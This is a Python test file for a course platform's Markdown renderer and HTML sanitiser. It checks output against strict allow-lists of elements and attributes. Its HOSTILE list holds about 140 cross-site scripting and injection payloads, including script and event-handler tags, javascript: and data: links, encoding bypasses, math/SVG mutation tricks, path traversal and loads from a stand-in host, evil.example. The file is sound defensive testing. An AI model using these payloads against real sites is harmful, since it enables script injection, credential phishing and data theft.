"""Hostile Markdown ends in a clear message or in harmless HTML.

The renderer is tried without the checker before it: a gate must hold by itself.
"""

import re
from collections.abc import Iterable
from html.parser import HTMLParser
from pathlib import Path

import pytest

from near_learn.content.definitions import take
from near_learn.content.draft import Prose
from near_learn.content.links import Links, ModulePlace
from near_learn.content.markup import Renderer
from near_learn.content.problem import Report
from near_learn.content.sanitising import Sanitiser
from near_learn.content.source import Line
from tests.content.world import ENGLISH, FRONT, QUIZ, found, library

PLAN = Path(__file__).parent / "examples" / "garden" / "01-first-visit" / "media" / "plan.svg"
EXAMPLES = PLAN.parents[2] / "03-summer-evening" / "media"
MEDIA_FILES = {
    "plan.svg": PLAN,
    "talk.mp3": EXAMPLES / "welcome.mp3",
    "talk.md": EXAMPLES / "welcome.md",
    "visit.mp4": EXAMPLES / "gate.webm",
    "visit.vtt": EXAMPLES / "gate.vtt",
    "visit.md": EXAMPLES / "gate.md",
    "visit.png": EXAMPLES / "gate.webp",
}

HOSTILE = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js>",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror=alert(1)//",
    "<svg onload=alert(1)>",
    "<svg><script href='data:,alert(1)'/></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)>",
    "<embed src=javascript:alert(1)>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>*{background:url(//evil.example)}</style>",
    "<p style='background:url(javascript:alert(1))'>x</p>",
    "<div style='position:fixed;inset:0'>x</div>",
    "<form action=//evil.example><input name=password></form>",
    "<input id=csrf_token name=csrf_token>",
    "<a id=location href=x>x</a>",
    "<a name=submit>x</a>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<body onload=alert(1)>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?xml-stylesheet href='javascript:alert(1)'?>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><script>alert(1)</script></template>",
    "<a href='javascript:alert(1)'>x</a>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](java&#115;cript:alert(1))",
    "[x](&#x6A;avascript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](javascript&#58;alert(1))",
    "[x](java\\script:alert(1))",
    "[x]( javascript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](blob:https://example.org/1)",
    "[x](file:///etc/passwd)",
    "[x](//evil.example)",
    "[x](\\\\evil.example)",
    "[x](https:evil.example)",
    "[x](https://[evil)",
    '[x](https://example.org "onmouseover=alert(1)")',
    '[x](https://example.org "\'><img src=x onerror=alert(1)>")',
    "<javascript:alert(1)>",
    "<javascript://example.org/%0aalert(1)>",
    "![x](javascript:alert(1))",
    "![x](data:image/svg+xml,<svg onload=alert(1)>)",
    "![x](https://evil.example/pixel.png)",
    "![x](media/../../secret.png)",
    "![x](media/%2e%2e/%2e%2e/secret.png)",
    '![" onerror="alert(1)](media/plan.svg)',
    '![x](media/plan.svg "\' onerror=alert(1)")',
    "![x\\](media/plan.svg)",
    "`<script>alert(1)</script>`",
    "```\n<script>alert(1)</script>\n```",
    "    <script>alert(1)</script>",
    '!!! case" onclick="alert(1) "x"\n    y',
    '!!! case onclick style "x"\n    y',
    '!!! case "<img src=x onerror=alert(1)>"\n    <script>alert(1)</script>',
    "| a |\n|---|\n| <script>alert(1)</script> |",
    "| a |\n|:-:onclick|\n| b |",
    "### x {#location}",
    '### x {#x" onclick="alert(1)}',
    "### x {: onclick=alert(1) style=color:red }",
    "[x](https://example.org){: onclick=alert(1) }",
    "[x]: javascript:alert(1)\n\n[x]",
    "[x][y]\n\n[y]: javascript:alert(1)",
    "*[HTML]: <script>alert(1)</script>\n\nHTML",
    "\x02klzzwxh:0000\x03 \x02wzxhzdk:0\x03 \x02amp\x03#106;avascript",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "https://example.org/<script>alert(1)</script>",
    'http://example.org/"onmouseover=alert(1)',
    "www.example.org/'onmouseover=alert(1)",
    'a@b.c"onmouseover=alert(1)',
    '<a@b.c"onmouseover=alert(1)>',
    "$<script>alert(1)</script>$",
    r"$\text{<img src=x onerror=alert(1)>}$",
    r"$\text{&lt;img src=x onerror=alert(1)&gt;}$",
    r"$\text{&amp;lt;script&amp;gt;alert(1)}$",
    r"$\href{javascript:alert(1)}{x}$",
    r"$\style{background:url(//evil.example)}{x}$",
    r"$\class{thumb-bar}{x}$",
    r"$\unicode{x3cscript}$",
    r"$\color{red;background:url(//evil.example)}{x}$",
    r"$\hspace{1em;position:fixed}x$",
    r"$\operatorname{</math><script>alert(1)</script>}$",
    r"$\begin{array}{c onclick=alert(1)} x \end{array}$",
    r"$\mathrm{</mrow><annotation-xml encoding='text/html'><script>alert(1)</script>}$",
    "$$\n</math><script>alert(1)</script>\n$$",
    "$$\n\\text{<mglyph><style><img src=x onerror=alert(1)>}\n$$",
    '??? "<img src=x onerror=alert(1)>"\n    <script>alert(1)</script>',
    '??? "x" onclick=alert(1)\n    y',
    '??? open style "x"\n    y',
    '???+ transcript "x"\n    y',
    "<b>x</b>\n:   <script>alert(1)</script>",
    "x\n:   [y](javascript:alert(1))",
    "[^x]\n\n[^x]: <script>alert(1)</script>",
    "[^x]\n\n[^x]: [y](javascript:alert(1))",
    '[^"onclick=alert(1)]\n\n[^"onclick=alert(1)]: x',
    "[^<script>alert(1)</script>]",
    '*[EU]: "onmouseover="alert(1)\n\nEU',
    "*[EU]: ' onmouseover='alert(1)\n\nEU and EU",
    "*[EU]: European Union\n\n[EU](javascript:alert(1)) ![EU](javascript:alert(1))",
    "![x](media/visit.mp4)",
    '![" onerror="alert(1)](media/talk.mp3)',
    '![x](media/talk.mp3 "\' onplay=alert(1)")',
    "![x](https://evil.example/film.mp4)",
    "![x](data:video/mp4;base64,AAAA)",
    "![x](media/../../../talk.mp3)",
    "![x](media/talk.mp3#t=1)",
    "[x](media/visit.vtt)",
    '![x](media/plan.svg "<script>alert(1)</script>")',
    '<code class="insert-0"></code> $a$',
    '`<code class="insert-0"></code>` $a$',
    "``` insert-0\nx\n```\n\n$a$",
    "``` { .insert-0 }\nx\n```\n\n$a$",
    "``` { .a .insert-0 #n-1 onclick=alert(1) }\nx\n```\n\n$a$",
    '``` { hl_lines="1" .insert-7 }\n```\n\n$a$',
    "klzzwxh:0000 wzxhzdk:0 formula0 \u2060",
    "### $x$ {#s-x}",
    "### x {#n-1}\n\n[^1]\n\n[^1]: y",
    "| **<b>x</b>** |\n|---|\n| **<script>alert(1)</script>** |",
]


# What a page may hold, said here once more: a slip in the sanitiser's lists must not pass its own test.
TEXT = "p br hr em strong code pre blockquote ul ol li dl dt dd a abbr sup h3 h4 h5 h6 div"
TABLE = "table thead tbody tr th td"
MEDIA = "img figure figcaption audio video track details summary"
MATH = "math mrow mi mn mo mtext mspace mfrac msqrt mroot msub msup msubsup munder mover munderover"
MORE_MATH = "mtable mtr mtd mstyle mpadded mphantom menclose"
ELEMENTS = frozenset(" ".join((TEXT, TABLE, MEDIA, MATH, MORE_MATH)).split())
PLACES = {
    "href": re.compile(r"https?://\w|mailto:|tel:|#s-[a-z0-9-]+\Z|#n-\d+(-mark(-\d+)?)?\Z|/courses/c(/|\Z)"),
    "src": re.compile(r"/courses/c/m/media/[\w.-]+\Z"),
    "poster": re.compile(r"/courses/c/m/media/[\w.-]+\Z"),
    "id": re.compile(r"s-[a-z0-9-]+\Z|n-\d+(-mark(-\d+)?)?\Z"),
    "class": re.compile(
        r"(table|formula|notes|recording|transcript|note-mark|note-back|admonition-title"
        r"|admonition (case|reflection|evidence|tip))\Z"
    ),
    "role": re.compile(r"(region|group|doc-noteref|doc-backlink|doc-endnotes)\Z"),
    "rel": re.compile(r"noopener noreferrer\Z"),
}
WORDS = "title alt aria-label label alttext"
SETTINGS = (
    "tabindex scope align start loading width height controls preload kind srclang default lang display "
    "displaystyle scriptlevel stretchy fence form separator accent lspace rspace minsize maxsize "
    "linethickness columnalign columnspacing rowspacing notation linebreak mathvariant"
)
SETTING = re.compile(r"[\w .%-]{0,40}\Z")


class Reader(HTMLParser):
    """Collects every tag and attribute that this parser sees."""

    def __init__(self) -> None:
        super().__init__()
        self.seen: list[tuple[str, str, str]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.seen.append((tag, "", ""))
        self.seen += [(tag, name, value or "") for name, value in attrs]


def assert_harmless(html: str) -> None:
    """No element, attribute, address or id that could act, whoever parses it."""
    reader = Reader()
    reader.feed(html)
    reader.close()
    assert_known(reader.seen)
    assert "<!" not in html
    assert "<?" not in html


def assert_known(seen: Iterable[tuple[str, str, str]]) -> None:
    """Only elements, attributes and values of the lists above."""
    for tag, name, value in seen:
        assert tag in ELEMENTS, tag
        if name in PLACES:
            assert PLACES[name].match(value), (tag, name, value)
        elif name in SETTINGS.split():
            assert SETTING.match(value), (tag, name, value)
        else:
            assert not name or name in WORDS.split(), (tag, name, value)


def renderer() -> Renderer:
    """A renderer as a module has it."""
    place = ModulePlace("m", {"text": "text"}, frozenset(), frozenset({"en"}))
    made = Renderer(Links("c", "01-one", {"01-one": place}, MEDIA_FILES))
    made.report = Report("en.md")
    made.begin("text", 'A "title" <b>')
    return made


def rendered(text: str) -> str:
    """What the renderer makes of a text, as a section, as a question and as a line, with its footnotes."""
    lines, definitions = take(
        [Line(number, line) for number, line in enumerate(text.split("\n"), 1)], Report("")
    )
    made = renderer()
    made.open(Report("en.md"), "en", definitions)
    pieces = [
        made.block(Prose(lines), notes=True),
        made.end(),
        made.block(Prose(lines)),
        made.inline(Prose(lines)),
    ]
    return "\n".join(pieces)


@pytest.mark.parametrize("text", HOSTILE)
def test_the_renderer_makes_nothing_of_it(text: str) -> None:
    assert_harmless(rendered(text))


@pytest.mark.parametrize("text", ["<b>bold</b>", "<div>\n\n*text*\n\n</div>", "<!-- a remark -->"])
def test_html_is_shown_as_it_was_written(text: str) -> None:
    html = renderer().block(Prose([Line(number, line) for number, line in enumerate(text.split("\n"), 1)]))
    assert html.startswith("<p>&lt;")
    assert html.endswith("&gt;</p>")


@pytest.mark.parametrize("text", HOSTILE)
def test_the_sanitiser_lets_none_of_it_through(text: str) -> None:
    reader = Reader()
    html = Sanitiser().clean(text)
    reader.feed(html)
    for tag, name, value in reader.seen:
        assert tag in ELEMENTS
        assert not name or (
            name in {*PLACES, *WORDS.split(), *SETTINGS.split()}
            and not value.lower().strip().startswith(("java", "data", "vb"))
        )


@pytest.mark.parametrize("text", HOSTILE)
def test_learners_get_a_module_without_it_or_none(text: str, tmp_path: Path) -> None:
    loaded = library(tmp_path, en=f"{FRONT}\n## Text {{#text}}\n\n{text}{QUIZ}")
    modules = {module.id: module for module in loaded.courses["c"].modules}
    assert "m" in modules or found(loaded)
    if "m" in modules:
        assert_harmless(modules["m"].text("en").section("text").html)


def test_text_nested_beyond_the_interpreter_is_a_problem_and_no_crash() -> None:
    made = renderer()
    html = made.block(Prose([Line(3, "> " * 3000 + "a")]))
    assert html == "" or "blockquote" in html
    assert html or [str(problem) for problem in made.report.problems] == [
        "en.md:3: the text is nested too deeply; make it simpler"
    ]


def test_a_file_with_very_many_problems_says_the_first_hundred(tmp_path: Path) -> None:
    loaded = library(tmp_path, en=ENGLISH.replace("Text.", "[a](#gone)\n\n" * 500))
    assert len(loaded.problems) == 101
    assert loaded.problems[-1].message == "there are more problems from here on; mend those above first"
